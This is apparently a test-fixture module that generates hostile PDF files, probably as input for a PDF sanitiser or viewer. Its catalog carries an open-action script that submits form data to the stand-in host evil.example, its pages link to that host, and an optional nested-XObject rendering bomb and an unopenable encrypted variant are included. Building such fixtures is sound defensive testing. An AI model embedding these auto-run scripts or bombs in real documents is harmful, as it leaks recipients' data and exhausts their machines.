/** A PDF of two pages with text, a red square, a link, and a script that it wants to run when it is opened. */
export function pdf({ pages = 2, mediaBox = "0 0 300 200", trailer = "", bomb = 0 } = {}) {
    const numbers = Array.from({ length: pages }, (_, at) => 4 + at * 2);
    const objects = [
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >> >>`,
        `<< /Type /Pages /Count ${pages} /Kids [${numbers.map((number) => `${number} 0 R`).join(" ")}] >>`,
        `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
        ...numbers.flatMap((number, at) => [
            `<< /Type /Page /Parent 2 0 R /MediaBox [${mediaBox}] /Contents ${number + 1} 0 R /Resources << /Font << /F 3 0 R >> ${bomb ? `/XObject << /B ${4 + pages * 2} 0 R >>` : ""} >>
                /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://evil.example/) >> >>] >>`,
            stream(`1 0 0 rg 20 20 60 60 re f 0 g BT /F 18 Tf 20 150 Td (Letter page ${at + 1} <b>of</b> Dr Lee) Tj ET ${bomb ? "/B Do" : ""}`),
        ]),
        // Each form draws the next one ten times.
        ...Array.from({ length: bomb }, (_, at) => stream(at + 1 < bomb ? "/B Do ".repeat(10) : "0 0 1 1 re f", `/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /XObject << /B ${5 + pages * 2 + at} 0 R >> >>`)),
    ];
    let file = "%PDF-1.7\n";
    const places = objects.map((object, at) => {
        const place = file.length;
        file += `${at + 1} 0 obj\n${object}\nendobj\n`;
        return place;
    });
    const start = file.length;
    file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((place) => `${`${place}`.padStart(10, "0")} 00000 n \n`).join("")}`;
    return Buffer.from(`${file}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`, "latin1");
}

/** A password is needed that nobody knows. */
export const locked = () => pdf({ trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${"ab".repeat(32)}> /U <${"cd".repeat(32)}> >>` });

const stream = (content, more = "") => `<< ${more} /Length ${content.length} >>\nstream\n${content}\nendstream`;
